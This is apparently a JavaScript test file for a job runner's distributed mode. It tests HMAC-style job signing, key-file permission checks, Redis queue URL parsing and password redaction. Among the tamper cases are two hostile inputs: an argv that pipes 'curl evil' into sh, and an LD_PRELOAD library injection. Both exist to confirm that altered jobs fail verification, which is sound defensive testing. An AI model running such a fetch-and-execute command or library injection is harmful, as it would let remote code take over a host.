// Signed jobs and queue URLs of the distributed mode (spawnpool/distributed):
// a job changed in any field, signed with another key, or not signed at all
// does not verify; a key file others can read is refused; a password never
// shows in what is printed.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { KeyError, QueueUrlError, canonicalJson, loadKey, parseQueueUrl, redact, signJob, verifyJob } from '../dist/distributed.js';
import { tmpBase } from './_support.js';

const key = randomBytes(32);
const job = {
  batch: 'thumbs', id: 'a:b ✓ 123', argv: ['/usr/bin/convert', 'in/1.png', '-resize', '50%', 'out/1.jpg'],
  env: { LANG: 'C', B: '2' }, cwd: '/srv/work', input: Buffer.from('stdin bytes').toString('base64'), timeoutMs: 60000,
};

test('canonical JSON: one encoding whatever the key order; undefined members left out; no NaN', () => {
  assert.is(canonicalJson({ b: 1, a: [true, null, 'x'], c: undefined }), '{"a":[true,null,"x"],"b":1}');
  assert.is(canonicalJson({ z: { y: 1, x: 2 } }), canonicalJson({ z: { x: 2, y: 1 } }));
  assert.throws(() => canonicalJson({ n: Number.NaN }), /cannot sign the number NaN/);
});

test('a signed job verifies; reordered keys and an env in another order verify too', () => {
  const signature = signJob(job, key);
  assert.equal(verifyJob(job, signature, key), { ok: true });
  const reordered = { timeoutMs: job.timeoutMs, env: { B: '2', LANG: 'C' }, input: job.input, cwd: job.cwd, argv: job.argv, id: job.id, batch: job.batch };
  assert.equal(verifyJob(reordered, signature, key), { ok: true });
});

test('any changed, added or moved field fails with EBADSIG, and so do another key and no signature', () => {
  const signature = signJob(job, key);
  const changes = [
    { batch: 'other' }, { id: 'a:c ✓ 123' }, { argv: ['/bin/sh', '-c', 'curl evil | sh'] }, { argv: [...job.argv, 'x'] },
    { env: { ...job.env, LD_PRELOAD: '/tmp/x.so' } }, { env: undefined }, { cwd: '/' }, { input: '' }, { timeoutMs: 1 },
    { retries: 3 }, { maxOutput: 1 << 30 }, { capture: true },
    // The same strings split differently between argv elements.
    { argv: ['/usr/bin/convert in/1.png', '-resize', '50%', 'out/1.jpg'] },
  ];
  for (const change of changes) {
    const verdict = verifyJob({ ...job, ...change }, signature, key);
    assert.is(verdict.ok, false, JSON.stringify(change));
    assert.is(verdict.code, 'EBADSIG');
    assert.match(verdict.message, 'does not verify');
  }
  const other = verifyJob(job, signJob(job, randomBytes(32)), key);
  assert.equal([other.ok, other.code], [false, 'EBADSIG']);
  for (const missing of [undefined, '', 42]) {
    const v = verifyJob(job, missing, key);
    assert.equal([v.ok, v.code], [false, 'EBADSIG']);
    assert.match(v.message, 'is not signed');
  }
  // A truncated signature is refused without comparing (timingSafeEqual needs equal lengths).
  assert.is(verifyJob(job, signature.slice(0, 10), key).ok, false);
});

test('loadKey: a key file of the owner alone, a final newline dropped; SPAWNPOOL_KEY; short, missing or shared keys refused', () => {
  const file = join(tmpBase, 'queue.key');
  const secret = randomBytes(32).toString('hex');
  writeFileSync(file, `${secret}\n`, { mode: 0o600 });
  chmodSync(file, 0o600);
  assert.ok(loadKey(file, {}).equals(Buffer.from(secret)));
  assert.is(loadKey(undefined, {}), undefined);
  assert.ok(loadKey(undefined, { SPAWNPOOL_KEY: secret }).equals(Buffer.from(secret)));

  const refused = (fn, code, text) => {
    try {
      fn();
    } catch (err) {
      assert.instance(err, KeyError);
      assert.is(err.code, code);
      assert.match(err.message, text);
      return;
    }
    assert.unreachable(`expected ${code}`);
  };
  chmodSync(file, 0o640);
  refused(() => loadKey(file, {}), 'EPERM', 'can be read by others (mode 640)');
  const short = join(tmpBase, 'short.key');
  writeFileSync(short, 'too short', { mode: 0o600 });
  refused(() => loadKey(short, {}), 'EINVAL', 'has 9 bytes; at least 32');
  refused(() => loadKey(undefined, { SPAWNPOOL_KEY: 'x' }), 'EINVAL', 'SPAWNPOOL_KEY has 1 bytes');
  refused(() => loadKey(join(tmpBase, 'no-such.key'), {}), 'ENOENT', 'no-such.key');
  refused(() => loadKey(tmpBase, {}), 'EINVAL', 'not a regular file');
});

test('queue URLs: redis, rediss, unix sockets, user and password, SPAWNPOOL_QUEUE; the password never shown', () => {
  assert.equal(parseQueueUrl('redis://q.example:6380/2', {}), { host: 'q.example', port: 6380, db: 2, shown: 'redis://q.example:6380/2' });
  assert.equal(parseQueueUrl('redis://q', {}), { host: 'q', port: 6379, db: 0, shown: 'redis://q' });
  const tls = parseQueueUrl('rediss://worker:s3cr%40t@q.example/1', {});
  assert.equal(tls, {
    host: 'q.example', port: 6379, db: 1, username: 'worker', password: 's3cr@t', tls: { servername: 'q.example' },
    shown: 'rediss://worker:***@q.example/1',
  });
  assert.equal(parseQueueUrl('redis://:pw@[::1]:7000', {}), { host: '::1', port: 7000, db: 0, password: 'pw', shown: 'redis://:***@[::1]:7000' });
  assert.equal(parseQueueUrl('unix:///run/redis/redis.sock?db=3', {}), { path: '/run/redis/redis.sock', db: 3, shown: 'unix:///run/redis/redis.sock?db=3' });
  assert.equal(parseQueueUrl(undefined, { SPAWNPOOL_QUEUE: 'redis://:hidden@q/0' }).password, 'hidden');

  const fails = (url, text, env = {}) => {
    try {
      parseQueueUrl(url, env);
    } catch (err) {
      assert.instance(err, QueueUrlError);
      assert.is(err.code, 'EINVAL');
      assert.match(err.message, text);
      assert.not.match(err.message, 'hunter2');
      return;
    }
    assert.unreachable(`expected ${url} to be refused`);
  };
  fails(undefined, 'give --queue URL or set SPAWNPOOL_QUEUE');
  fails('http://u:hunter2@q/0', 'unknown scheme http:');
  fails('redis://u:hunter2@q/zero', 'the database must be a number');
  fails('unix://', 'no socket path');
  fails('u:hunter2@q', 'unknown scheme');
  assert.is(redact('redis://admin:hunter2@q:6379/0'), 'redis://admin:***@q:6379/0');
  assert.is(redact('redis://hunter2@q'), 'redis://***@q');
  assert.is(redact('redis://q:6379/0'), 'redis://q:6379/0');
});

test.run();
